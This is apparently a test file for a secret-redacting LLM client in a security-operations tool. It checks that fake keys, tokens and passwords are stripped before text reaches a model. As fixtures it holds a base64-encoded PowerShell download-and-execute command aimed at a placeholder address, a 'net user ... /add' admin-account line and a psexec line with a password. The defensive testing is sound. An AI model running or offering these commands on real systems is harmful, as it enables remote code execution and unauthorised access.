import { z } from 'zod';
import { redactSecrets } from '../../../src/security/redact';
import { RedactingLlmClient, redactForModel } from '../../../src/llm/redacting-client';
import { FakeLlmClient } from '../../support/fake-llm';

const encodedCommand = Buffer.from(
  'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/a")',
  'utf16le',
).toString('base64');
const encodedSecret = Buffer.from('net user admin P@ssw0rd! /add; password=Hunter2Hunter2', 'utf16le').toString(
  'base64',
);

export const plantedSecrets = {
  awsKey: 'AKIAIOSFODNN7EXAMPLE',
  storage:
    'DefaultEndpointsProtocol=https;AccountName=socstore;AccountKey=Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0Z2FycGx5d2FsZG9maWNlcw==;EndpointSuffix=core.windows.net',
  jwt: 'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlc2lnbmF0dXJl',
  commandLinePassword: 'psexec.exe \\\\fs01 -u contoso\\admin -p Winter2026!Secret cmd.exe',
  privateKey:
    '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n-----END RSA PRIVATE KEY-----',
  openAiKey: 'sk-proj-abcdefghijklmnopqrstuvwx',
};

describe('RedactingLlmClient', () => {
  it('redacts every message before the model sees it, and passes the answer through', async () => {
    const fake = new FakeLlmClient().answer({ ok: true });
    const client = new RedactingLlmClient(fake, redactForModel(redactSecrets));
    const answer = await client.generateStructured({
      schemaName: 'probe',
      schema: z.object({ ok: z.boolean() }),
      messages: [
        { role: 'system', content: 'You are a SOC analyst.' },
        { role: 'user', content: Object.values(plantedSecrets).join('\n') },
      ],
    });
    expect(answer.value).toEqual({ ok: true });
    const sent = JSON.stringify(fake.calls[0].messages);
    expect(sent).toContain('You are a SOC analyst.');
    for (const secret of [
      'AKIAIOSFODNN7EXAMPLE',
      'Zm9vYmFy',
      'eyJhbGciOiJSUzI1NiIs',
      'Winter2026!Secret',
      'MIIEowIBAAKCAQEA',
      'sk-proj-abc',
    ]) {
      expect(sent).not.toContain(secret);
    }
    expect(client.provider).toBe(fake.provider);
    expect(client.model).toBe(fake.model);
  });

  it('keeps an encoded PowerShell command (evidence), but not one that hides a password', () => {
    const redact = redactForModel(redactSecrets);
    expect(redact(`powershell.exe -EncodedCommand ${encodedCommand}`)).toContain(encodedCommand);
    const hidden = redact(`powershell.exe -enc ${encodedSecret}`);
    expect(hidden).not.toContain(encodedSecret);
    expect(hidden).toContain('[redacted encoded text holding a secret]');
    // Bare base64 that decodes to bytes (a key) is still redacted.
    const accountKey = Buffer.from(Array.from({ length: 32 }, (_, index) => (index * 97 + 13) % 256)).toString(
      'base64',
    );
    expect(redact(`key ${accountKey}`)).not.toContain(accountKey);
  });
});

describe('redactSecrets on prose', () => {
  it('redacts a password written after the word, but keeps hunting vocabulary', () => {
    expect(redactSecrets('logons with password Winter2026!Secret from')).toBe('logons with password [redacted] from');
    expect(redactSecrets('the password is Hunter2Hunter2')).toBe('the password is [redacted]');
    for (const phrase of ['hunt for password spray', 'password reset by the helpdesk', 'invalid password 50126']) {
      expect(redactSecrets(phrase)).toBe(phrase);
    }
  });
});
